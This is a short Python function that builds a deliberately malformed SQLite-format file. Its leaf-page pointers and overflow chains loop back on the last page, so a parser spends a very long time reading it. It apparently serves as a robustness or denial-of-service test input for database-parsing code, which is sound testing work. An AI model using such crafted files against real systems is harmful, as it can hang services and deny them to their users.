"""A journal that is made to take long."""


def crafted(size: int, page: int = 4096) -> bytes:
    """Pages whose every pointer leads to a row that runs over the last page, again and again, to the file's size."""
    pages = size // page
    row = bytes([*(0x80 | size >> bits & 0x7F for bits in (21, 14, 7)), size & 0x7F, 1])
    most, local = page - 35, (page - 12) * 32 // 255 - 23
    local = found if (found := local + (size - local) % (page - 4)) <= most else local
    at = page - 4 - local - len(row)
    pointers = (at - 8) // 2
    leaf = b"\x0d\0\0" + pointers.to_bytes(2) + bytes(3) + at.to_bytes(2) * pointers
    leaf = leaf.ljust(at, b"\0") + row + bytes(local) + pages.to_bytes(4)
    head = b"SQLite format 3\0" + page.to_bytes(2)
    return head.ljust(page, b"\0") + leaf * (pages - 2) + pages.to_bytes(4).ljust(page, b"\0")
